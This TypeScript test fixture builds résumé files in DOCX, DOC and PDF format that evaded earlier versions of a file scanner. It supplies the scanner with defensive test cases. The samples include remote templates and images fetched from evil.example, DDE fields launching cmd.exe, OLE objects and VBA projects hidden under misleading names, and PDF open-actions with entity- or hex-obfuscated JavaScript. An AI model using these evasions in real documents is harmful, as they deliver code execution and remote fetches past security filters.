/** Files that got past earlier versions of the checks: each hides what it does from a search by name. */
import { bad, type BadResume } from './bad-resume.ts';
import { makeDoc } from './doc-files.ts';
import { makePdf, objectStream } from './pdf-files.ts';
import {
  bodyXml,
  contentTypesXml,
  externalRelation,
  fieldXml,
  makeDocx,
  relationBase,
  relationsXml,
} from './zip-files.ts';

const template = 'https://evil.example/t.dotm';
const withRelations = (relations: string) => () => makeDocx({ documentRelations: relationsXml(relations) });
const withBody = (content: string) => () => makeDocx({ document: bodyXml(content) });
const oleStart = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const withPart = (name: string, type: string, content: string | Buffer) => () =>
  makeDocx({
    types: contentTypesXml(undefined, undefined, { [`/${name}`]: type }),
    more: [{ name, content }],
  });
const macroByEntity = 'application/vnd.ms-word.document.m&#97;croEnabled.main+xml';

const templates: readonly BadResume[] = [
  bad(
    'a template from elsewhere, its mode in capitals',
    'cv.docx',
    'external',
    withRelations(externalRelation('attachedTemplate', template, 'TargetMode="EXTERNAL"')),
  ),
  bad(
    'a template behind a greater-than sign in a value',
    'cv.docx',
    'external',
    withRelations(
      `<Relationship Id="a>b" Type="${relationBase}/attachedTemplate" Target="${template}" TargetMode="External"/>`,
    ),
  ),
  bad(
    'a template whose type is spelled in entities',
    'cv.docx',
    'external',
    withRelations(
      `<Relationship Id="r" Type="${relationBase}/attached&#x54;emplate" Target="${template}" TargetMode="External"/>`,
    ),
  ),
  bad(
    'a template behind the end of a comment that is none',
    'cv.docx',
    'external',
    withRelations(
      `<!-- a --><Relationship Id="&lt;!--" Type="${relationBase}/attachedTemplate" Target="${template}" TargetMode="External"/><!-- b -->`,
    ),
  ),
  bad(
    'a template that says it is inside',
    'cv.docx',
    'external',
    withRelations(`<Relationship Id="r" Type="${relationBase}/attachedTemplate" Target="${template}"/>`),
  ),
  bad(
    'a picture from elsewhere that says it is inside',
    'cv.docx',
    'external',
    withRelations(`<Relationship Id="r" Type="${relationBase}/image" Target="https://evil.example/a.png"/>`),
  ),
  bad(
    'a picture from a share, its path in percent',
    'cv.docx',
    'external',
    withRelations(`<Relationship Id="r" Type="${relationBase}/image" Target="%5C%5Chost%5Cshare%5Ca.png"/>`),
  ),
  bad(
    'a link whose scheme has a tab in it',
    'cv.docx',
    'external',
    withRelations(externalRelation('hyperlink', 'fi&#9;le://host/share')),
  ),
  bad(
    'a picture that is drawn from elsewhere without a relation',
    'cv.docx',
    'external',
    withBody('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/>'),
  ),
  bad('a DOC with a template from elsewhere', 'cv.doc', 'external', () => makeDoc([], { template })),
];

const objects: readonly BadResume[] = [
  bad(
    'an OLE object in the folder of pictures',
    'cv.docx',
    'attachments',
    withPart('word/media/image1.png', 'image/png', oleStart),
  ),
  bad(
    'an OLE object by its type, wherever it lies',
    'cv.docx',
    'attachments',
    withPart('word/notes.dat', 'application/vnd.openxmlformats-officedocument.oleObject', oleStart),
  ),
  bad(
    'an OLE object by its relation',
    'cv.docx',
    'attachments',
    withRelations(externalRelation('oleObject', 'media/image1.png', '')),
  ),
  bad('macros whose type is spelled in entities', 'cv.docx', 'macros', () =>
    makeDocx({ types: contentTypesXml(macroByEntity) }),
  ),
  bad(
    'a macro project under another name',
    'cv.docx',
    'macros',
    withPart('word/theme.dat', 'application/vnd.ms-office.vba&#80;roject', oleStart),
  ),
  bad('an OLE object in the pool of a DOC', 'cv.doc', 'attachments', () =>
    makeDoc([
      { name: 'ObjectPool', type: 'storage' },
      { name: '_1234', type: 'storage', within: 'ObjectPool' },
      { name: 'Package', content: Buffer.alloc(5_000), within: '_1234' },
    ]),
  ),
  bad('macros deep in a DOC', 'cv.doc', 'macros', () =>
    makeDoc([
      { name: 'MsoDataStore', type: 'storage' },
      { name: 'Macros', type: 'storage', within: 'MsoDataStore' },
      { name: 'VBA', type: 'storage', within: 'Macros' },
    ]),
  ),
];

const pdfs: readonly BadResume[] = [
  bad('a script in compressed objects that do not say they are some', 'cv.pdf', 'damaged', () =>
    makePdf({ objects: [objectStream({ 10: '<< /S /JavaScript /JS (x) >>' }, { name: 'Objects' })] }),
  ),
  bad('a script in compressed objects whose filter stands in an array', 'cv.pdf', 'damaged', () =>
    makePdf({
      objects: [objectStream({ 10: '<< /S /JavaScript /JS (x) >>' }, { filter: '[/FlateDecode]' })],
    }),
  ),
  bad('a script behind the last of the compressed objects', 'cv.pdf', 'damaged', () =>
    makePdf({ objects: [objectStream({ 10: '<< >> << /S /JavaScript >>' })] }),
  ),
  bad('an action on opening by a number, with a script behind the number', 'cv.pdf', 'scripted', () =>
    makePdf({
      catalog: '/Open#41ction 10 0 R',
      objects: [objectStream({ 10: '<< /S /#4aava#53cript >>' })],
    }),
  ),
  bad('an action on opening that was harmless once', 'cv.pdf', 'scripted', () =>
    makePdf({
      catalog: '/OpenAction 10 0 R',
      objects: [
        '10 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n',
        '10 0 obj\n<< /S /URI /URI (https://evil.example) >>\nendobj\n',
      ],
    }),
  ),
  bad('an action when a page opens', 'cv.pdf', 'scripted', () =>
    makePdf({
      objects: ['7 0 obj\n<< /Type /Page /A#41 << /O 8 0 R >> >>\nendobj\n8 0 obj\n<< /S /GoTo >>\nendobj\n'],
    }),
  ),
  bad('an action of a type that nobody knows', 'cv.pdf', 'scripted', () =>
    makePdf({ objects: ['7 0 obj\n<< /Subtype /Link /A << /S /Spell >> >>\nendobj\n'] }),
  ),
  bad('a key that is there twice', 'cv.pdf', 'damaged', () =>
    makePdf({ objects: ['7 0 obj\n<< /A << /S /Spell >> /A << /S /GoTo >> >>\nendobj\n'] }),
  ),
];

const fields: readonly BadResume[] = [
  bad('a DDE field', 'cv.docx', 'fields', withBody(fieldXml(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
  bad('a DDE field cut into runs', 'cv.docx', 'fields', withBody(fieldXml(' D', 'D', 'E', 'AUTO cmd '))),
  bad(
    'a DDE field in CDATA and entities',
    'cv.docx',
    'fields',
    withBody(fieldXml('<![CDATA[ D]]>&#68;<![CDATA[EAUTO cmd]]>')),
  ),
  bad('a DDE field in one element', 'cv.docx', 'fields', withBody('<w:fldSimple w:instr=" ddeauto cmd "/>')),
  bad(
    'a field that writes the name of another',
    'cv.docx',
    'fields',
    withBody(
      `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${fieldXml(' QUOTE 68 68 69 ')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    ),
  ),
  bad(
    'a field that includes a picture',
    'cv.docx',
    'fields',
    withBody(fieldXml(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')),
  ),
  bad('a link field to a share', 'cv.docx', 'external', withBody(fieldXml(' HYPERLINK "\\\\host\\share" '))),
  bad('a DDE field in a header', 'cv.docx', 'fields', () =>
    makeDocx({
      types: contentTypesXml(undefined, undefined, {
        '/word/header9.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
      }),
      more: [{ name: 'word/header9.xml', content: bodyXml(fieldXml('DDE cmd')) }],
    }),
  ),
  bad('a DDE field in a DOC', 'cv.doc', 'fields', () =>
    makeDoc([], { text: 'Asha \u0013 DDEAUTO c:\\\\cmd.exe \u0014x\u0015\r' }),
  ),
  bad('a DDE field in the pieces of a DOC', 'cv.doc', 'fields', () =>
    makeDoc([], { text: 'Asha \u0013 DDEAUTO c:\\\\cmd.exe \u0014x\u0015\r', pieceChars: 1 }),
  ),
];

/** Misplaced remote templates, objects and macros, hidden scripts, disguised fields. */
export const evasions: readonly BadResume[] = [...templates, ...objects, ...pdfs, ...fields];
